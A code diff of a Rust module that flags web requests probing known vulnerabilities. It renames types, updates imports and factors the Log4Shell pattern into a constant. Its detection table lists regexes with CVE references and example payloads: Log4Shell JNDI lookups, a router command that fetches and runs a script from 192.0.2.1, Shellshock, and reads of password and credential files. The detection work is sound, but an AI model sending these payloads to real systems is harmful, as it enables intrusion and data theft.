@@ -1,7 +1,7 @@
 //! Requests for well-known holes: is somebody trying the doors?
 //!
 //! Takes a request, says whether it looks for one of the holes in [`PROBES`]. A request is read as a server would: log
-//! escapes undone, then what [`super::disguise`] knows. Few patterns, each with its source: a request that people make too is no
+//! escapes undone, then what [`crate::parse::detect::normalize`] knows. Few patterns, each with its source: a request that people make too is no
 //! probe, however often scanners make it. So `/wp-login.php`, `/xmlrpc.php`, `/phpmyadmin/`, `/actuator/health` (monitors) and
 //! a few `../` in a query do not count.
 
@@ -9,9 +9,9 @@ use std::sync::LazyLock;
 
 use regex::bytes::Regex;
 
-use super::disguise::{bare, decode, fold};
-use super::path::split_target;
-use crate::parse::web::Web;
+use crate::parse::access::request::Web;
+use crate::parse::detect::normalize::{collapse_slashes, decode, strip_path_params};
+use crate::parse::detect::well_known::split_target;
 
 /// One well-known hole, and the requests that look for it.
 #[derive(Debug, Clone, Copy)]
@@ -19,10 +19,10 @@ pub struct Probe {
     /// What people call it.
     pub name: &'static str,
     /// Where the pattern is looked for.
-    pub place: Place,
+    pub place: RequestPart,
     /// A regular expression over bytes, in any case.
     pub pattern: &'static str,
-    /// The flaw's number, or the page that describes it.
+    /// The number of the vulnerability, or the page that describes it.
     pub source: &'static str,
     /// What stands in that place of a request that looks for it.
     pub example: &'static str,
@@ -30,18 +30,18 @@ pub struct Probe {
 
 /// A part of a request.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Place {
+pub enum RequestPart {
     /// The path of the target, decoded, folded and bared.
     Path,
     /// The target with its query, decoded and folded.
     Target,
-    /// What a header says, and the target as in [`Place::Target`].
+    /// What a header says, and the target as in [`RequestPart::Target`].
     Anywhere,
     /// What a header says: user agent, referrer, user or X-Forwarded-For.
     Header,
 }
 
-const fn probe(name: &'static str, place: Place, pattern: &'static str, source: &'static str, example: &'static str) -> Probe {
+const fn probe(name: &'static str, place: RequestPart, pattern: &'static str, source: &'static str, example: &'static str) -> Probe {
     Probe { name, place, pattern, source, example }
 }
 
@@ -52,45 +52,49 @@ macro_rules! lookup {
     };
 }
 
+/// A lookup of Log4j that asks another server.
+pub const LOG4SHELL: &str =
+    concat!(r"\$\{", lookup!(), "j", lookup!(), "n", lookup!(), "d", lookup!(), r"(?:i|\xc4\xb1)", lookup!(), r":|\$\{base64:jhtqbmrp");
+
 /// Every hole that is known. Patterns and examples are the project's own.
 #[rustfmt::skip]
 pub const PROBES: &[Probe] = &[
     // Browsers resolve `..` before they ask, so one in a path is a tool's.
-    probe("path traversal", Place::Path, r"(?:^|/)\.\.(?:/|$)", "CVE-2021-41773, CVE-2021-42013, CVE-2020-5902, CVE-2000-0884", "/cgi-bin/.%2e/.%%32%65/%252e%252e/bin/id"),
+    probe("path traversal", RequestPart::Path, r"(?:^|/)\.\.(?:/|$)", "CVE-2021-41773, CVE-2021-42013, CVE-2020-5902, CVE-2000-0884", "/cgi-bin/.%2e/.%%32%65/%252e%252e/bin/id"),
     // Pages of a site link to each other with up to three steps (`?next=../../login`); four, or a known file behind one, no page needs.
-    probe("path traversal in a query", Place::Target, r"\?.*(?:(?:(?:\.\.){1,2}/){4}|\.\./(?:etc/(?:passwd|shadow|hosts|group)|proc/self/\w+|(?:(?:windows|winnt)/)?win\.ini|boot\.ini|web-inf/web\.xml|wp-config\.php|\.env)(?:[^\w.-]|$))", "CVE-2018-13379; CWE-22", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+    probe("path traversal in a query", RequestPart::Target, r"\?.*(?:(?:(?:\.\.){1,2}/){4}|\.\./(?:etc/(?:passwd|shadow|hosts|group)|proc/self/\w+|(?:(?:windows|winnt)/)?win\.ini|boot\.ini|web-inf/web\.xml|wp-config\.php|\.env)(?:[^\w.-]|$))", "CVE-2018-13379; CWE-22", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
     // As a whole path or a whole value, or as what a command reads: people write about these files too.
-    probe("password file", Place::Target, r#"(?:^(?:/@fs)?|[?&=][ +]*|file:|\(['"]?|(?:[;|`(]|\b(?:cmd|command|exec)=)[ +]*(?:/bin/)?cat(?:[ +]|\$\{?ifs\}?)+)(?:[a-z]:)?/(?:etc/(?:passwd|shadow)|proc/self/(?:environ|cmdline|maps|status|fd/\d+)|windows/win\.ini)(?:[^\w.-]|$)"#, "OWASP WSTG-ATHZ-01, WSTG-INPV-12", "/download?file=/etc/passwd%00.html"),
-    probe("Shellshock", Place::Header, r"^\(\) ?\{", "CVE-2014-6271", "() { :; }; /bin/id"),
-    probe("Shellshock in a target", Place::Target, r"(?:^|[/?&=])\(\) ?\{ ?:?;? ?\}?;", "CVE-2014-6271", "/cgi-bin/status?()%20{%20:;};%20/bin/id"),
+    probe("password file", RequestPart::Target, r#"(?:^(?:/@fs)?|[?&=][ +]*|file:|\(['"]?|(?:[;|`(]|\b(?:cmd|command|exec)=)[ +]*(?:/bin/)?cat(?:[ +]|\$\{?ifs\}?)+)(?:[a-z]:)?/(?:etc/(?:passwd|shadow)|proc/self/(?:environ|cmdline|maps|status|fd/\d+)|windows/win\.ini)(?:[^\w.-]|$)"#, "OWASP WSTG-ATHZ-01, WSTG-INPV-12", "/download?file=/etc/passwd%00.html"),
+    probe("Shellshock", RequestPart::Header, r"^\(\) ?\{", "CVE-2014-6271", "() { :; }; /bin/id"),
+    probe("Shellshock in a target", RequestPart::Target, r"(?:^|[/?&=])\(\) ?\{ ?:?;? ?\}?;", "CVE-2014-6271", "/cgi-bin/status?()%20{%20:;};%20/bin/id"),
     // The letters of `jndi:` in a lookup, each perhaps the outcome of another one, `${lower:j}` or `${::-j}`; `\xc4\xb1` is a dotless i.
-    probe("Log4Shell", Place::Anywhere, concat!(r"\$\{", lookup!(), "j", lookup!(), "n", lookup!(), "d", lookup!(), r"(?:i|\xc4\xb1)", lookup!(), r":|\$\{base64:jhtqbmrp"), "CVE-2021-44228, CVE-2021-45046", "${${lower:j}ndi:${::-l}dap://192.0.2.1/a}"),
+    probe("Log4Shell", RequestPart::Anywhere, LOG4SHELL, "CVE-2021-44228, CVE-2021-45046", "${${lower:j}ndi:${::-l}dap://192.0.2.1/a}"),
     // No file's name has one; it ends the name for what is written in C.
-    probe("NUL in a path", Place::Target, r"^/[^?\x00]*\x00", "CVE-2006-7243; CWE-158", "/wp-config.php%00.html"),
+    probe("NUL in a path", RequestPart::Target, r"^/[^?\x00]*\x00", "CVE-2006-7243; CWE-158", "/wp-config.php%00.html"),
     // Whatever is behind `.env` but `.html`: that is a page about it.
-    probe("environment file", Place::Path, r"/\.env(?:[_~-][^./]*)?(?:(?:\.[^./]*)*\.(?:[^./h][^./]*|h(?:[^./t][^./]*)?|ht(?:[^./m][^./]*)?|htm[^./l][^./]*|html[^./]+)?)?$", "CVE-2017-16894; CWE-538", "/api/.env.production"),
-    probe("version control", Place::Path, r"/\.(?:git|svn|hg|bzr)(?:/|$)|/\.git(?:config|-credentials)$", "CWE-527", "/.git/config"),
-    probe("key or credentials file", Place::Path, r"/\.(?:aws/(?:credentials|config)|ssh/(?:id_[a-z0-9]+|authorized_keys)|docker/config\.json|vscode/sftp\.json|htpasswd)$", "CWE-538; OWASP WSTG-CONF-04", "/.aws/credentials"),
-    probe("wp-config backup", Place::Path, r"/[.#]?wp-config(?:\.php[.~_#-][^/]*|\.(?:bak|old|orig|save|txt|zip|inc|swp))$", "OWASP WSTG-CONF-04; WordPress, Hardening WordPress", "/wp-config.php.bak"),
-    probe("PHPUnit eval-stdin", Place::Path, r"/eval-stdin\.php$", "CVE-2017-9841", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
-    probe("shell in cgi-bin", Place::Path, r"/cgi-bin/(?:.*/)?(?:ba|da|z|k)?sh$", "CVE-2021-41773; CERT advisory CA-1996-11", "/cgi-bin/bash"),
-    probe("php-cgi argument", Place::Target, r"\?.*(?:-|\xad)d[ +]*allow_url_include", "CVE-2012-1823, CVE-2024-4577", "/index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
-    probe("ThinkPHP", Place::Target, r"think/app/invokefunction", "CVE-2018-20062", r"/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array"),
-    probe("Laravel Ignition", Place::Path, r"/_ignition/execute-solution$", "CVE-2021-3129", "/_ignition/execute-solution"),
-    probe("Spring actuator", Place::Path, r"/actuator(?:/(?:env|gateway/.*|heapdump|threaddump|configprops|mappings|beans|jolokia|logfile|httptrace|trace))?$", "CVE-2022-22947; Spring Boot, Actuator endpoints", "/actuator/gateway/routes"),
-    probe("Spring4Shell", Place::Target, r"class\.module\.classloader\.", "CVE-2022-22965", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
-    probe("Java expression", Place::Target, r#"java\.lang\.(?:runtime|processbuilder)(?:@|\(|\)?\.getruntime\b|['"]\)\.)"#, "CVE-2022-26134, CVE-2017-5638, CVE-2022-22963", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"),
-    probe("ProxyShell", Place::Target, r"/autodiscover\.json.*@.*(?:powershell|/mapi/nspi)", "CVE-2021-34473", "/autodiscover/autodiscover.json?a@b.example/powershell"),
-    probe("WebLogic wls-wsat", Place::Path, r"^/wls-wsat(?:/|$)", "CVE-2017-10271", "/wls-wsat/CoordinatorPortType"),
-    probe("WebLogic async", Place::Path, r"^/_async/asyncresponseservice", "CVE-2019-2725", "/_async/AsyncResponseService"),
-    probe("GPON router", Place::Path, r"^/(?:boaform|gponform)(?:/|$)", "CVE-2020-8958, CVE-2018-10561", "/boaform/admin/formLogin"),
-    probe("D-Link HNAP", Place::Path, r"^/hnap1$", "CVE-2015-2051", "/HNAP1/"),
-    probe("MVPower recorder", Place::Target, r"^/shell\?.*\bcd[ +]+/", "CVE-2016-20016", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/x;sh+x"),
-    probe("NETGEAR setup.cgi", Place::Target, r"/setup\.cgi\?.*todo=syscmd", "CVE-2024-12847", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/"),
-    probe("DrayTek Vigor", Place::Path, r"^/cgi-bin/mainfunction\.cgi", "CVE-2020-8515", "/cgi-bin/mainfunction.cgi"),
-    probe("TP-Link Archer", Place::Target, r"^/cgi-bin/luci/;stok=/locale", "CVE-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&operation=write"),
-    probe("Hikvision camera", Place::Path, r"^/sdk/weblanguage$", "CVE-2021-36260", "/SDK/webLanguage"),
-    probe("nmap", Place::Path, r"^/nmaplowercheck\d+$|^/nice ports,/trinity\.txt\.bak$", "nmap nselib/http.lua, nmap-service-probes FourOhFourRequest", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
+    probe("environment file", RequestPart::Path, r"/\.env(?:[_~-][^./]*)?(?:(?:\.[^./]*)*\.(?:[^./h][^./]*|h(?:[^./t][^./]*)?|ht(?:[^./m][^./]*)?|htm[^./l][^./]*|html[^./]+)?)?$", "CVE-2017-16894; CWE-538", "/api/.env.production"),
+    probe("version control", RequestPart::Path, r"/\.(?:git|svn|hg|bzr)(?:/|$)|/\.git(?:config|-credentials)$", "CWE-527", "/.git/config"),
+    probe("key or credentials file", RequestPart::Path, r"/\.(?:aws/(?:credentials|config)|ssh/(?:id_[a-z0-9]+|authorized_keys)|docker/config\.json|vscode/sftp\.json|htpasswd)$", "CWE-538; OWASP WSTG-CONF-04", "/.aws/credentials"),
+    probe("wp-config backup", RequestPart::Path, r"/[.#]?wp-config(?:\.php[.~_#-][^/]*|\.(?:bak|old|orig|save|txt|zip|inc|swp))$", "OWASP WSTG-CONF-04; WordPress, Hardening WordPress", "/wp-config.php.bak"),
+    probe("PHPUnit eval-stdin", RequestPart::Path, r"/eval-stdin\.php$", "CVE-2017-9841", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+    probe("shell in cgi-bin", RequestPart::Path, r"/cgi-bin/(?:.*/)?(?:ba|da|z|k)?sh$", "CVE-2021-41773; CERT advisory CA-1996-11", "/cgi-bin/bash"),
+    probe("php-cgi argument", RequestPart::Target, r"\?.*(?:-|\xad)d[ +]*allow_url_include", "CVE-2012-1823, CVE-2024-4577", "/index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
+    probe("ThinkPHP", RequestPart::Target, r"think/app/invokefunction", "CVE-2018-20062", r"/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array"),
+    probe("Laravel Ignition", RequestPart::Path, r"/_ignition/execute-solution$", "CVE-2021-3129", "/_ignition/execute-solution"),
+    probe("Spring actuator", RequestPart::Path, r"/actuator(?:/(?:env|gateway/.*|heapdump|threaddump|configprops|mappings|beans|jolokia|logfile|httptrace|trace))?$", "CVE-2022-22947; Spring Boot, Actuator endpoints", "/actuator/gateway/routes"),
+    probe("Spring4Shell", RequestPart::Target, r"class\.module\.classloader\.", "CVE-2022-22965", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
+    probe("Java expression", RequestPart::Target, r#"java\.lang\.(?:runtime|processbuilder)(?:@|\(|\)?\.getruntime\b|['"]\)\.)"#, "CVE-2022-26134, CVE-2017-5638, CVE-2022-22963", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"),
+    probe("ProxyShell", RequestPart::Target, r"/autodiscover\.json.*@.*(?:powershell|/mapi/nspi)", "CVE-2021-34473", "/autodiscover/autodiscover.json?a@b.example/powershell"),
+    probe("WebLogic wls-wsat", RequestPart::Path, r"^/wls-wsat(?:/|$)", "CVE-2017-10271", "/wls-wsat/CoordinatorPortType"),
+    probe("WebLogic async", RequestPart::Path, r"^/_async/asyncresponseservice", "CVE-2019-2725", "/_async/AsyncResponseService"),
+    probe("GPON router", RequestPart::Path, r"^/(?:boaform|gponform)(?:/|$)", "CVE-2020-8958, CVE-2018-10561", "/boaform/admin/formLogin"),
+    probe("D-Link HNAP", RequestPart::Path, r"^/hnap1$", "CVE-2015-2051", "/HNAP1/"),
+    probe("MVPower recorder", RequestPart::Target, r"^/shell\?.*\bcd[ +]+/", "CVE-2016-20016", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/x;sh+x"),
+    probe("NETGEAR setup.cgi", RequestPart::Target, r"/setup\.cgi\?.*todo=syscmd", "CVE-2024-12847", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/"),
+    probe("DrayTek Vigor", RequestPart::Path, r"^/cgi-bin/mainfunction\.cgi", "CVE-2020-8515", "/cgi-bin/mainfunction.cgi"),
+    probe("TP-Link Archer", RequestPart::Target, r"^/cgi-bin/luci/;stok=/locale", "CVE-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&operation=write"),
+    probe("Hikvision camera", RequestPart::Path, r"^/sdk/weblanguage$", "CVE-2021-36260", "/SDK/webLanguage"),
+    probe("nmap", RequestPart::Path, r"^/nmaplowercheck\d+$|^/nice ports,/trinity\.txt\.bak$", "nmap nselib/http.lua, nmap-service-probes FourOhFourRequest", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
 ];
 
 /// Whether a request looks for one of [`PROBES`].
@@ -113,14 +117,14 @@ struct Patterns {
 
 impl Patterns {
     fn build() -> Result<Self, regex::Error> {
-        let join = |places: &[Place]| {
+        let join = |places: &[RequestPart]| {
             let patterns: Vec<_> = PROBES.iter().filter(|probe| places.contains(&probe.place)).map(|probe| probe.pattern).collect();
             Regex::new(&format!("(?is-u){}", patterns.join("|")))
         };
         Ok(Self {
-            path: join(&[Place::Path])?,
-            target: join(&[Place::Target, Place::Anywhere])?,
-            header: join(&[Place::Header, Place::Anywhere])?,
+            path: join(&[RequestPart::Path])?,
+            target: join(&[RequestPart::Target, RequestPart::Anywhere])?,
+            header: join(&[RequestPart::Header, RequestPart::Anywhere])?,
         })
     }
 
@@ -128,12 +132,12 @@ impl Patterns {
         // The path is cut off before it is decoded: an encoded `?` is part of a name.
         let (path, query) = split_target(target);
         let decoded = decode(path);
-        let path = fold(&decoded);
-        if self.path.is_match(&bare(&path)) {
+        let path = collapse_slashes(&decoded);
+        if self.path.is_match(&strip_path_params(&path)) {
             return true;
         }
         match query {
-            Some(query) => self.target.is_match(&[&path, &b"?"[..], &fold(&decode(query))].concat()),
+            Some(query) => self.target.is_match(&[&path, &b"?"[..], &collapse_slashes(&decode(query))].concat()),
             None => self.target.is_match(&path),
         }
     }
@@ -142,7 +146,7 @@ impl Patterns {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::parse::web::Escaping;
+    use crate::parse::access::request::Escaping;
 
     fn request(line: &str) -> Web<'_> {
         Web {
@@ -169,18 +173,18 @@ mod tests {
     #[test]
     fn every_probe_fires_on_its_example_and_by_its_own_pattern() {
         for probe in PROBES {
-            let is_header = probe.place == Place::Header;
+            let is_header = probe.place == RequestPart::Header;
             // Logs double a backslash.
             let logged = probe.example.replace('\\', r"\\");
             let (target, agent) = if is_header { ("/", &*logged) } else { (&*logged, "Mozilla/5.0") };
             assert!(fires(target, agent), "{}", probe.name);
             let (path, query) = split_target(probe.example.as_bytes());
-            let folded = fold(&decode(path)).into_owned();
-            let query = query.map(|query| [&b"?"[..], &fold(&decode(query))].concat()).unwrap_or_default();
+            let folded = collapse_slashes(&decode(path)).into_owned();
+            let query = query.map(|query| [&b"?"[..], &collapse_slashes(&decode(query))].concat()).unwrap_or_default();
             let text = match probe.place {
-                Place::Path => bare(&folded).into_owned(),
-                Place::Target | Place::Anywhere => [folded, query].concat(),
-                Place::Header => probe.example.into(),
+                RequestPart::Path => strip_path_params(&folded).into_owned(),
+                RequestPart::Target | RequestPart::Anywhere => [folded, query].concat(),
+                RequestPart::Header => probe.example.into(),
             };
             let own = Regex::new(&format!("(?is-u){}", probe.pattern)).expect("a pattern");
             assert!(own.is_match(&text), "{}: another pattern finds the example", probe.name);
